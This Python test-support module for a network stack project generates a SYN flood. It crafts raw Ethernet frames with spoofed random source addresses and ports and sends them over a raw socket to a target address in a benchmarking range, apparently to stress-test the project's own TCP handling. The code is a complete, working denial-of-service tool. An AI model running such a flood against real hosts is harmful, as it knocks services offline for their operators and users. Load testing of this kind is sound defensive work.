"""A SYN flood from the peer namespace: SYNs with random on-link source
addresses and ports, crafted as raw frames (the kernel would not let us
spoof through its TCP stack). Prints {"sent": N, "seconds": S}.

    python -m tests.support.synflood --iface WIRE --dst-mac MAC --count N
"""

from __future__ import annotations

import argparse
import json
import random
import socket
import struct
import time

from stackservice.net.checksum import internet_checksum, pseudo_header_sum
from stackservice.net.ipv4 import write_header

SRC_MAC = bytes.fromhex("020000000001")
_TCP = struct.Struct("!HHIIBBHHH")


def tcp_frame(
    dst_mac: bytes, src_mac: bytes, src_ip: int, dst_ip: int, sport: int, dport: int,
    seq: int, ack: int, flags: int, window: int, payload: bytes = b"",
) -> bytes:  # fmt: skip
    """One Ethernet frame carrying a TCP segment without options, valid
    checksums: what an attacker's raw socket sends."""
    length = 20 + len(payload)
    frame = bytearray(14 + 20 + length)
    frame[0:14] = dst_mac + src_mac + b"\x08\x00"
    write_header(frame, 14, src_ip, dst_ip, 6, length, 0)
    _TCP.pack_into(frame, 34, sport, dport, seq, ack, 5 << 4, flags, window, 0, 0)
    frame[54:] = payload
    checksum = internet_checksum(frame[34:], pseudo_header_sum(src_ip, dst_ip, 6, length))
    struct.pack_into("!H", frame, 34 + 16, checksum)
    return bytes(frame)


def syn_frame(dst_mac: bytes, src_ip: int, dst_ip: int, sport: int, dport: int, seq: int) -> bytes:
    return tcp_frame(dst_mac, SRC_MAC, src_ip, dst_ip, sport, dport, seq, 0, 0x02, 64240)


def flood(iface: str, dst_mac: bytes, dst_ip: int, port: int, count: int, seed: int) -> dict:
    rng = random.Random(seed)
    base = int.from_bytes(socket.inet_aton("198.18.0.0"), "big")
    start = time.monotonic()
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind((iface, 0))
        for _ in range(count):
            src = base + rng.randrange(100, 250)
            sock.send(
                syn_frame(
                    dst_mac, src, dst_ip, rng.randrange(1024, 65536), port, rng.getrandbits(32)
                )
            )
    return {"sent": count, "seconds": time.monotonic() - start}


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--iface", required=True)
    parser.add_argument("--dst-mac", required=True)
    parser.add_argument("--dst-ip", default="198.18.0.10")
    parser.add_argument("--port", type=int, default=80)
    parser.add_argument("--count", type=int, default=100_000)
    parser.add_argument("--seed", type=int, default=1)
    args = parser.parse_args()
    result = flood(
        args.iface,
        bytes.fromhex(args.dst_mac.replace(":", "")),
        int.from_bytes(socket.inet_aton(args.dst_ip), "big"),
        args.port,
        args.count,
        args.seed,
    )
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main()
